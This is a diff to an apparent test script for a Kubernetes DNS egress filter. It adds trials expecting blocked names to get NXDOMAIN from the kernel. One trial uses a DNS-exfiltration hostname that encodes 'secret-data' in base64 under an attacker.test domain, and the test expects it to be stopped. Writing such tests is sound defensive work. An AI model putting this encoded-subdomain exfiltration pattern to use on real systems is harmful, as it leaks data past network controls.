@@ -5,6 +5,8 @@
  *   shop/payments  fqdn-egress.io/allow: "api.stripe.test:443, *.kadath.test"
  *   shop/frontend  no annotation: untouched
  *   shop/audit     the same allow list, in audit mode: passes, but reports
+ * payments' DNS queries for names outside its list are answered NXDOMAIN by
+ * the kernel (one of them an exfiltration attempt): the resolver never sees them.
  * Real clients in each pod resolve a name and connect to what it answered.
  * Prints what was tried, allowed or dropped, and why; then egressctl inspect
  * and egressctl drops. Exits 0 only if every outcome is the expected one.
@@ -23,7 +25,7 @@ interface Trial {
   name: string;
   type?: 'A' | 'AAAA';
   port: number;
-  expect: 'allowed' | 'dropped';
+  expect: 'allowed' | 'dropped' | 'no answer';
   why: string;
 }
 
@@ -33,8 +35,9 @@ const TRIALS: Trial[] = [
   { pod: 'payments', name: 'api.stripe.test', port: 8443, expect: 'dropped', why: 'only port 443 is allowed for it' },
   { pod: 'payments', name: 'www.kadath.test', port: 443, expect: 'allowed', why: '*.kadath.test matches' },
   { pod: 'payments', name: 'pay.kadath.test', port: 443, expect: 'allowed', why: '*.kadath.test, through a CNAME chain' },
-  { pod: 'payments', name: 'kadath.test', port: 443, expect: 'dropped', why: '*.kadath.test never matches kadath.test itself' },
-  { pod: 'payments', name: 'blocked.test', port: 443, expect: 'dropped', why: 'not in the allow list' },
+  { pod: 'payments', name: 'kadath.test', port: 443, expect: 'no answer', why: '*.kadath.test never matches kadath.test itself: NXDOMAIN from the kernel' },
+  { pod: 'payments', name: 'blocked.test', port: 443, expect: 'no answer', why: 'not in the allow list: the query is answered NXDOMAIN' },
+  { pod: 'payments', name: 'c2VjcmV0LWRhdGE.exfil.attacker.test', port: 443, expect: 'no answer', why: 'DNS exfiltration: the resolver never sees the query' },
   { pod: 'frontend', name: 'blocked.test', port: 443, expect: 'allowed', why: 'no annotation: not enforced' },
   { pod: 'audit', name: 'blocked.test', port: 443, expect: 'allowed', why: 'audit mode: passes, reported as an audit event' },
 ];
